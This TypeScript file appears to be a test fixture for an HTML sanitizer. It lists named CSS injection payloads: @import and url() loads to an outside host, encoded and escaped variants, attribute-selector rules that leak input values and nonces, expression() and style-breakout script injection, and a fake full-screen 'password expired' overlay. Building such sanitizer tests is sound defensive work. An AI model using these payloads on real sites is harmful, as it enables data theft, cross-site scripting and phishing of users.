import type { Tricks } from './hostile.ts';

/** Styles that load, that reach out of their place, or that hide markup. */
export const styles: Tricks = ({ url, host, script }) => ({
  'imported sheet': `<style>@import url("${url}/a.css"); @import "${url}/b.css" screen; @import '//${host}/c';</style><p>x</p>`,
  'imported sheet, escaped': `<style>@\\69mport url(${url}/a); @import u\\72l(${url}/b); @im/**/port url(${url}/c);</style><p>x</p>`,
  'imported sheet in a comment': `<style><!-- @import url(${url}/a); --></style><style>/*</style><style>*/@import url(${url}/b);</style>`,
  'images of styles': `<style>p{background:url(${url}/a);list-style:url(${url}/b) inside;border-image:url(${url}/c) 1;cursor:url(${url}/d),auto;mask:url(${url}/e);shape-outside:url(${url}/f)} p::before{content:url(${url}/g)} li{display:list-item;list-style-image:url(${url}/h)}</style><ul><li>x</ul><p>y</p>`,
  'images of styles, escaped': `<style>p{background:u\\72l(${url}/a);background-image:\\75\\72\\6c(${url}/b);b\\61ckground:url(${url}/c)}</style><p>x</p>`,
  'sets of images of styles': `<style>p{background-image:image-set("${url}/a" 1x);background:-webkit-image-set(url(${url}/b) 1x)} b{background:-webkit-cross-fade(url(${url}/c),url(${url}/d),50%)} i{background:image("${url}/e")}</style><p>x <b>y</b> <i>z</i></p>`,
  'style attributes': `<p style="background:url(${url}/a)">x</p><p style='background-image:url("${url}/b")'>y</p><div style=background:url(${url}/c)>z</div><li style="list-style-image:url(${url}/d)">l</li>`,
  'style attributes, encoded': `<p style="background:&#117;rl(${url}/a)">x</p><p style="background:u\\72 l(${url}/b)">y</p><p STYLE="BACKGROUND:URL(${url}/c)">z</p><p style="background:url(/**/${url}/d)">w</p>`,
  'style attribute of the body': `<body style="background:url(${url}/a)"><p>x</p></body>`,
  'style attribute that ends early': `<p style="color:red}*{background:url(${url}/a)">x</p><p style="};@import url(${url}/b);">y</p>`,
  variables: `<style>:root{--a:url(${url}/a);--b:${url}/b} p{background:var(--a)} b{background:url(var(--b))} @property --c{syntax:"<image>";inherits:true;initial-value:url(${url}/c)} i{background:var(--c)}</style><p>x <b>y</b> <i>z</i></p><p style="--d:url(${url}/d);background:var(--d)">w</p>`,
  'variables that stand in': `<p style="background:var(--none, url(${url}/a))">x</p><style>b{background:env(none, url(${url}/b))}</style><b>y</b>`,
  fonts: `<style>@font-face{font-family:x;src:url(${url}/a.woff2),local(x)} p{font-family:x}</style><p>text</p>`,
  animations: `<style>@keyframes k{from{background:url(${url}/a)}to{background:url(${url}/b)}} p{animation:k 1s infinite}</style><p>x</p>`,
  'rules within rules': `<style>@media all{p{background:url(${url}/a)}} @supports (color:red){p{background:url(${url}/b)}} @layer l{p{background:url(${url}/c)}} @container (width>0){p{background:url(${url}/d)}} @scope (body){p{background:url(${url}/e)}} p{& b{background:url(${url}/f)} &{background:url(${url}/g)}} @starting-style{p{background:url(${url}/h)}}</style><p>x <b>y</b></p>`,
  'rules that guess': `<style>input[value^=a]{background:url(${url}/a)} a[href*=token]{background:url(${url}/b)} html:has(meta[content*=nonce]){background:url(${url}/c)} [nonce]{background:url(${url}/d)}</style><input value=abc>`,
  'scripts of old styles': `<style>p{width:expression(${script});behavior:url(${url}/a.htc);-moz-binding:url(${url}/b.xml#x)} @charset "x"; @namespace url(${url}/c);</style><p style="xss:expression(${script})">x</p>`,
  'style that ends its element': `<style>p{font-family:"</sty\\6ce><img src=x onerror='${script}'>"}</style><style>p{font-family:"\\3c/style>\\3cscript>${script}\\3c/script>"}</style><p style="font-family:'</style><script>${script}</script>'">x</p>`,
  'style in an attribute selector': `<style>p[title="\\3c/style>\\3cimg src=x onerror=${script}>"]{color:red}</style><p>x</p>`,
  'style with a media that ends early': `<style media="all{} @import url(${url}/a);">p{color:red}</style><style media="x){p{background:url(${url}/b)}">q{}</style>`,
  'forged marks': `<p data-css='0"]{}*{background:url(${url}/a)}'>x</p><p data-css="background:url(${url}/b)">y</p><style nonce=abc>p{background:url(${url}/c)}</style><p data-css='x</style><script>${script}</script>'>z</p>`,
  'covering everything': `<div style="position:fixed;inset:0;background:#f00;z-index:2147483647">Your password has expired</div><style>html,body{position:fixed!important;inset:-9999px!important;width:99999px!important} iframe{position:fixed}</style>`,
  'boxes of ours': `<style>a::after,a[data-leads-to]::after{content:"https://bank.example"!important;display:none!important} *::before{content:"x"}</style><a href="${url}/x">link</a>`,
  'thousands of styles': `${'<p style="color:red">x</p><style>p{color:blue}</style>'.repeat(1000)}<img src="${url}/a">`,
});
